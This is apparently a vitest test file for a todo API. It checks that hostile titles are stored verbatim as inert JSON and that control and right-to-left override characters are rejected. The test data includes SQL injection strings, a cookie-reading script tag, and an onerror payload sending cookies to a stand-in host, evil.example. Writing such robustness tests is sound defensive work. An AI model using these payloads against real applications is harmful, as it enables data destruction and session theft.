// Hostile titles (SQL, HTML and script, odd Unicode) are stored and returned exactly as sent, as
// inert JSON data; characters Postgres cannot store, and those that disguise text (controls, bidi
// overrides), are refused, not turned into a 500.
import { beforeAll, expect, test } from "vitest";
import type { Todo } from "#contract";
import { apiCall, signedInUser } from "../../test/client.ts";

let token: string;

beforeAll(async () => {
  token = (await signedInUser()).token;
});

test.each([
  ["SQL", "'); DROP TABLE todos; --"],
  ["SQL quoting", `Robert'); DELETE FROM "user" WHERE ('1'='1`],
  ["a script tag", "<script>alert(document.cookie)</script>"],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the point
  ["an event handler", '<img src=x onerror="fetch(`//evil.example/${document.cookie}`)">'],
  ["emoji and ZWJ sequences", "Buy 🥛 for 👩‍👩‍👧‍👦"],
  ["combining marks", "Z̸̢̛a̵l̴g̶o̷"],
  ["non-BMP and CJK", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 漢字 テスト"],
  ["a JSON lookalike", '{"title": "nested", "completed": true}'],
])("%s is stored and returned verbatim", async (_, title) => {
  const res = await apiCall(token, "POST", "/api/todos", { title });
  expect(res.status).toBe(201);
  expect(res.headers.get("Content-Type")).toMatch(/^application\/json/);
  const created = (await res.json()) as Todo;
  expect(created.title).toBe(title);
  const read = (await (await apiCall(token, "GET", `/api/todos/${created.id}`)).json()) as Todo;
  expect(read.title).toBe(title);
});

test("the todos table survived all of it", async () => {
  expect((await apiCall(token, "GET", "/api/todos")).status).toBe(200);
});

test.each([
  ["a NUL character", "nul\u0000byte"],
  ["a control character", "bell\u0007"],
  ["a right-to-left override", "invoice\u202Egpj.exe"],
])("%s is refused with 422", async (_, title) => {
  const res = await apiCall(token, "POST", "/api/todos", { title });
  expect(res.status).toBe(422);
});
